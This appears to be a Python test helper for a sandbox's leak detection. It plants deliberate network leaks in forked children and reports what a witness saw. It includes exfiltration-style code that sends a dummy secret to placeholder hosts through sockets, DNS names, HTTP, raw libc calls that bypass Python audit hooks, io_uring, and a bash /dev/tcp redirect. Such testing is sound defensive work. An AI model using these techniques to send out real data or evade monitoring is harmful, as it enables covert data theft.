"""Planted leaks: `python -m tests.prove.planted KIND DIRECTORY` in the isolated namespace; what was seen, as JSON.

Each leak is made by a child, as a dependency that calls home would. KIND `whole`: one leak inside a whole proof.
"""

from __future__ import annotations

import asyncio
import ctypes
import json
import mmap
import os
import socket
import struct
import subprocess
import sys
from collections.abc import Callable, Iterable
from pathlib import Path

import httpx
import uvloop

from router.prove.inside import open_internet, prove
from router.prove.service import Service
from router.prove.stage import set_up
from router.prove.steps import Step
from router.prove.witness import Witness
from router.seal.machine import call

HOME = ("198.51.100.7", 443)
SECRET = b"x" * 1000


def plain_socket() -> None:
    with socket.create_connection(HOME) as sock:
        sock.sendall(SECRET)


def closed_port() -> None:
    """Nobody answers: it was tried all the same."""
    with socket.socket() as sock:
        sock.connect_ex(("198.51.100.7", 4444))


def http_library() -> None:
    httpx.post("http://telemetry.vendor.example:80/event", content=SECRET)


def name_only() -> None:
    """A look-up is a leak too: the name carries it."""
    socket.getaddrinfo("c2VjcmV0.vendor.example", None)


def datagram() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(SECRET, HOME)


def fast_open() -> None:
    with socket.socket() as sock:
        sock.sendto(SECRET, socket.MSG_FASTOPEN, HOME)


def ipv6() -> None:
    with socket.create_connection(("2001:db8::7", 443)) as sock:
        sock.sendall(SECRET)


def multipath() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as sock:  # IPPROTO_MPTCP
        sock.connect(HOME)
        sock.sendall(SECRET)


def event_loop() -> None:
    async def leak() -> None:
        _, writer = await asyncio.open_connection(*HOME)
        writer.write(SECRET)
        await writer.drain()
        writer.close()

    uvloop.run(leak())


def _sockaddr() -> bytes:
    return struct.pack("=H", socket.AF_INET) + struct.pack("!H", HOME[1]) + socket.inet_aton(HOME[0]) + bytes(8)


def c_library() -> None:
    """By ctypes: no audit hook of Python sees it."""
    libc = ctypes.CDLL(None, use_errno=True)
    descriptor = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    assert libc.connect(descriptor, _sockaddr(), 16) == 0
    assert libc.send(descriptor, SECRET, len(SECRET), 0) == len(SECRET)


def ring() -> None:
    """By io_uring: no system call named connect is ever made."""
    parameters = ctypes.create_string_buffer(120)
    descriptor = call("io_uring_setup", 4, parameters)
    sq_tail, sq_array = struct.unpack_from("<I", parameters.raw, 44)[0], struct.unpack_from("<I", parameters.raw, 64)[0]
    rings = mmap.mmap(descriptor, 4096, offset=0)
    entries = mmap.mmap(descriptor, 4096, offset=0x10000000)
    where = ctypes.create_string_buffer(_sockaddr(), 16)
    with socket.socket() as sock:
        connect = struct.pack("<BBHiQQIIQ24x", 16, 0, 0, sock.fileno(), 16, ctypes.addressof(where), 0, 0, 1)
        entries[:64] = connect
        rings[sq_array : sq_array + 4] = struct.pack("<I", 0)
        rings[sq_tail : sq_tail + 4] = struct.pack("<I", 1)
        call("io_uring_enter", descriptor, 1, 1, 1, None, 0)
        sock.send(SECRET)


def other_program() -> None:
    subprocess.run(["bash", "-c", f"echo secret > /dev/tcp/{HOME[0]}/{HOME[1]}"], check=True)


def compiled_client() -> None:
    """A program of another language, that the test has compiled and put here."""
    subprocess.run([Path(sys.argv[2]) / "leak"], check=True)


def nothing() -> None:
    return


LEAKS: dict[str, Callable[[], None]] = {
    leak.__name__: leak
    for leak in (
        plain_socket, closed_port, http_library, name_only, datagram, fast_open, ipv6, multipath, event_loop, c_library,
        ring, other_program, compiled_client, nothing,
    )
}  # fmt: skip


def in_child(leak: Callable[[], None]) -> int:
    """Its exit code: 0, 77 where this machine has no such way out, 1 for another mistake."""
    child = os.fork()
    if child:
        return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    code = 0
    try:
        leak()
    except OSError as error:
        print(f"{leak.__name__}: {error}", file=sys.stderr)
        code = 77
    finally:
        os._exit(code)


def main() -> None:
    kind, directory = sys.argv[1], Path(sys.argv[2])
    set_up(directory)
    if kind == "whole":

        def more(_: Service) -> Iterable[Step]:
            return (Step("a dependency calls home", lambda: in_child(plain_socket)),)

        print(json.dumps(prove(directory, lambda _: None, more).document()))
        return
    internet = open_internet()
    witness = Witness()
    code = in_child(LEAKS[kind])
    seen = witness.seen()
    rows = [[target.address, target.protocol, target.port, count] for target, count in sorted(seen.bytes.items())]
    kernel = [[target.address, target.protocol, target.port] for target in sorted(seen.kernel or ())]
    print(
        json.dumps({"code": code, "seen": rows, "kernel": kernel, "asked": sorted(internet.asked), "lost": seen.lost})
    )


if __name__ == "__main__":
    main()
